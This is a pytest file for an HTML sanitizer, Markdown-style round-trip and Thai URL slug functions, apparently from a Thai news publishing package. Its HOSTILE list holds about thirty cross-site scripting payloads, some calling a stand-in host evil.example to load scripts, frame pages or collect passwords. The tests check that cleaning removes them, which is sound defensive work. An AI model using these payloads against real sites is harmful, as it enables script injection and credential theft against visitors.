"""An article's text: nothing that runs, loads or styles anything survives, and signs typed by hand come to the same."""

from __future__ import annotations

import re

import pytest

from publicrelations.clean_html import TAGS, clean_html, words_of
from publicrelations.simple_markup import from_markup, to_markup
from publicrelations.slugs import LONGEST, slug_of

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<p onclick='alert(1)' onmouseover=alert(1)>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>p{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<video src=x onerror=alert(1)></video><audio src=x></audio>",
    "<!--[if gte mso 9]><xml><script>alert(1)</script></xml><![endif]-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<p id=x class=y data-hx-get=/logout hx-get=/logout>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "\x00<scr\x00ipt>alert(1)</script>",
]
_TAG = re.compile(r"<(/?)([a-z0-9]+)([^>]*)>")


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("around", ["{}", "<p>ก {} ข</p>", "<ul><li><blockquote>{}</blockquote></li></ul>"])
def test_nothing_hostile_survives(hostile: str, around: str) -> None:
    clean = clean_html(around.format(hostile))
    for _end, tag, attributes in _TAG.findall(clean):
        assert tag in TAGS
        if attributes:
            assert re.fullmatch(r' href="(https?|mailto|tel):[^"]*" rel="noopener noreferrer"', attributes), (
                clean
            )
    assert "<script" not in clean
    assert "evil.example" not in re.sub(r">[^<]*<", "><", clean)
    assert clean_html(clean) == clean


@pytest.mark.parametrize(
    ("pasted", "clean"),
    [
        ("<h1>หัว</h1><p>ก</p>", "<h2>หัว</h2><p>ก</p>"),
        ("<h5>หัว</h5>", "<h3>หัว</h3>"),
        ("<p><b>ก</b> <i>ข</i></p>", "<p><strong>ก</strong> <em>ข</em></p>"),
        ("<div>ก</div><div>ข</div>", "<p>ก</p><p>ข</p>"),
        ("<div><p>ก</p><div>ข</div></div>", "<p>ก</p><p>ข</p>"),
        (
            '<p class="MsoNormal" style="margin:0"><span lang="TH">ก<o:p></o:p></span></p><p>&nbsp;</p>',
            "<p>ก</p>",
        ),
        ("ก<br>ข", "<p>ก<br>ข</p>"),
        (
            "<p>ก</p>ข <em>ค</em><ul><li>ง</li></ul>จ",
            "<p>ก</p><p>ข <em>ค</em></p><ul><li>ง</li></ul><p>จ</p>",
        ),
        ("<table><tr><td>ก</td><td>ข</td></tr></table>", "<p>ก</p><p>ข</p>"),
        ("<p></p><p> <br> </p><h2></h2><ul><li></li></ul>", ""),
        (
            '<p><a href="https://moe.go.th" target="_blank">ก</a></p>',
            '<p><a href="https://moe.go.th" rel="noopener noreferrer">ก</a></p>',
        ),
        ("<p><a>ก</a></p>", "<p>ก</p>"),
    ],
)
def test_what_is_pasted_becomes_plain(pasted: str, clean: str) -> None:
    assert clean_html(pasted) == clean


def test_the_words_of_a_text_are_read_line_by_line() -> None:
    assert words_of(
        "<h2>ก</h2><p>5 &lt; 6<br>ข</p><ul><li><p>ค</p></li></ul>"
    ) == "ก\n5 < 6\nข\n•\nค".replace("•\n", "")


@pytest.mark.parametrize(
    "text",
    [
        "<p>ก <strong>ข</strong> <em>ค</em></p><h2>หัว</h2><h3>ย่อย</h3><p>ง<br>จ</p>",
        "<ul><li><p>ก</p></li><li><p>ข</p></li></ul><ol><li><p>ค</p></li></ol>",
        '<blockquote><p>ก<br>ข</p></blockquote><p><a href="https://moe.go.th" rel="noopener noreferrer">ค</a></p>',
        "<p>1. ไม่ใช่รายการ<br>- ไม่ใช่<br>## ไม่ใช่หัวข้อ</p>",
        "<p>*ดาว* [วงเล็บ] \\ 5 &lt; 6 &amp; 7</p>",
    ],
)
def test_signs_typed_by_hand_come_to_the_same_text(text: str) -> None:
    assert clean_html(from_markup(to_markup(text))) == text


@pytest.mark.parametrize("typed", ["<script>x</script>", "[x](javascript:alert(1))", "[x](data:text/html,x)"])
def test_nothing_typed_by_hand_is_read_as_html(typed: str) -> None:
    assert "<script" not in from_markup(typed)
    assert "<a" not in from_markup(typed)


@pytest.mark.parametrize(
    ("title", "slug"),
    [
        ("รมว.ศธ. เปิดศูนย์ ปี ๒๕๕๓", "รมว-ศธ-เปิดศูนย์-ปี-2553"),
        ("Minister Opens Centre!", "minister-opens-centre"),
        ("ผู้เรียนรู้ ก้าวหน้า", "ผู้เรียนรู้-ก้าวหน้า"),
        ("???", "news"),
    ],
)
def test_the_words_of_an_address_keep_thai_whole(title: str, slug: str) -> None:
    assert slug_of(title) == slug


def test_a_long_address_is_cut_where_no_letter_is_torn() -> None:
    slug = slug_of("กำ" * 100)
    assert len(slug) <= LONGEST
    assert slug.replace("กำ", "") in ("", "ก")
